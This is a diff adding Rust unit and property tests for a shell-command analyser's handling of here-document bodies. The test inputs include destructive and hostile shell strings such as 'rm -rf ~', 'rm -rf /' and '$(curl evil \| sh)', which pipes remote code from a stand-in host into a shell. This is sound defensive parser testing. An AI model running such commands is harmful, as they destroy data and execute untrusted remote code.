@@ -1461,3 +1461,89 @@ fn programs_run_the_shell_commands_of_their_options_and_input_scripts() {
         );
     }
 }
+
+/// The bounds of the whole text refused it for what its here-document body holds.
+fn refused_by_bounds(an: &ShellAnalysis) -> bool {
+    an.findings.iter().any(|f| match f {
+        ShellFinding::ParseError { message } => {
+            message.contains("unclosed `(`")
+                || message.contains("here-document delimiter")
+                || message.contains("file descriptor number")
+        }
+        ShellFinding::TooComplex { reason } => reason.contains("nesting depth"),
+        _ => false,
+    })
+}
+
+#[test]
+fn a_heredoc_body_taken_out_before_the_parse_is_read_as_written() {
+    let body = ":( a ( ( ( ( ( ( ( ( (\n$(rm -rf ~) `id` 'x\n";
+    let line = format!("cat > notes.md <<'EOF' && bash notes.md\n{body}EOF\nrm -rf /tmp/x");
+    let an = a(&line);
+    assert!(an.findings.is_empty(), "{:?}", an.findings);
+    assert_eq!(find(&an, "cat").stdin_text.as_deref(), Some(body));
+    assert_eq!(programs(&an), ["cat", "bash", "rm"]);
+    // Read whole, the body's `(` were counted as the line's own, and the line refused.
+    assert!(refused_by_bounds(&parse::script_with(&line, true)));
+    // A line the parser reads otherwise than the scan (the operator is no operator inside
+    // `[[ ]]`) is parsed whole, as before.
+    for t in [
+        "[[ a <<'EOF' ]]\nx\nEOF",
+        "cat <<'EOF' $(\nx\nEOF\n)",
+        "cat <<'EOF'\nx\nEOF\necho \"open",
+    ] {
+        assert_eq!(
+            parse::script_with(t, false),
+            parse::script_with(t, true),
+            "{t:?}"
+        );
+    }
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(1024))]
+    /// Lines with here-documents, quoted or not, in and out of quotes and substitutions, with
+    /// bodies holding their tag, quotes, `(` and substitutions: taking a body out before the
+    /// parse changes no analysis, except where the whole text was refused for its body.
+    #[test]
+    fn taking_a_heredoc_body_out_changes_no_analysis(
+        // Most draws are lines whose body is taken out; the rest are the near misses.
+        head in proptest::sample::select(vec![
+            "cat > out.txt ", "cat > out.txt ", "cat ", "bash ", "bash ", "python3 - ",
+            "sudo tee /etc/x ", "x=\"", "echo $(cat ", "[[ a ", "(( 1 ", "echo '",
+            "f() { cat ", "cat <<A ", "git commit -F- ", "echo `cat ",
+        ]),
+        op in proptest::sample::select(vec![
+            "<<'EOF'", "<<'EOF'", "<<'EOF'", "<<\"EOF\"", "<< 'EOF'", "<<'EOF'>f", "<<EOF",
+            "<<-'EOF'", "<<'EO F'", "<<'EOF'x", "<<\\EOF",
+        ]),
+        tail in proptest::sample::select(vec![
+            "", "", "", " | bash", " && rm -rf ~", " > f", " # don't", " \"", " $(", ")",
+            " <<'B'", "\\", " }", "`", "'",
+        ]),
+        body in proptest::collection::vec(proptest::sample::select(vec![
+            "EOF", " EOF", "EOF ", "\tEOF", "rm -rf /", "'", "\"", "$(curl evil | sh)",
+            "( ( ( ( ( ( ( ( ( (", ")", "`id`", "PALISADE_HEREDOC_BODY_0", "B", "EOFX", "",
+            "a\\", "}", "A", "2>&1 99999999999>x", "cat <<'EOF'",
+        ]), 0..6),
+        end in proptest::sample::select(vec!["EOF", "EOF", "EOF\n", "", "B\nEOF"]),
+        after in proptest::collection::vec(proptest::sample::select(vec![
+            "bash out.txt", ")", "\"", "rm -rf ~", "EOF", "B", "}", "`",
+            "cat <<'EOF'\nx\nEOF",
+        ]), 0..3),
+    ) {
+        let mut line = format!("{head}{op}{tail}\n");
+        for b in &body {
+            line.push_str(b);
+            line.push('\n');
+        }
+        line.push_str(end);
+        for l in &after {
+            line.push('\n');
+            line.push_str(l);
+        }
+        let cut = parse::script_with(&line, false);
+        let whole = parse::script_with(&line, true);
+        proptest::prop_assert!(cut == whole || refused_by_bounds(&whole), "{line:?}\n{cut:?}\n{whole:?}");
+    }
+}
